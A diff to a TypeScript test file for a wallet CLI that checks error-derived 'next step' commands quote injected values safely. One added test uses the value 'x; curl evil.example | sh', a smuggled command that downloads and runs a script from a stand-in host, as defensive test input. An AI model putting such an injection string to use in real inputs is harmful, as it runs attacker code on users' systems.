@@ -130,17 +130,29 @@ async function typed(next: string): Promise<void> {
   assert.equal(code, 0, err);
 }
 
+test('a value in the message of a service is one word of the printed command', () => {
+  for (const [value, word] of [
+    ['x; curl evil.example | sh', "'x; curl evil.example | sh'"],
+    ["'; HELP", "''\\''; HELP'"],
+  ] as const) {
+    const { message } = new ServiceError('frozen', { what: 'all', since: 'now', freezeId: value });
+    const failed = new RequestFailed('FROZEN', message, { status: 403 });
+    const step = nextStep(failed, ['wallet', 'list']) ?? '';
+    assert.equal(step.slice(step.indexOf('--freeze-id ')), `--freeze-id ${word}`);
+  }
+});
+
 test('nextStep finds each row of the table by the sentence of its error, and fills in the placeholders', () => {
   for (const [code, step] of Object.entries(nextSteps)) {
     const details = Object.fromEntries(
       [...errors[code as keyof typeof nextSteps].sentence.matchAll(/\{(\w+)\}/g)].map(
-        ([, word = '']) => [word, `a ${word}`],
+        ([, word = '']) => [word, `a-${word}`],
       ),
     );
     const { message } = new ServiceError(code as keyof typeof nextSteps, details);
     const failed = new RequestFailed('REQUEST_INVALID', message, { status: 400 });
     const expected = step
-      .replaceAll(/\{(\w+)\}/g, (_, word: string) => `a ${word}`)
+      .replaceAll(/\{(\w+)\}/g, (_, word: string) => `a-${word}`)
       .replace('HELP', 'keywright wallet list --help');
     assert.equal(nextStep(failed, ['wallet', 'list']), expected, code);
   }
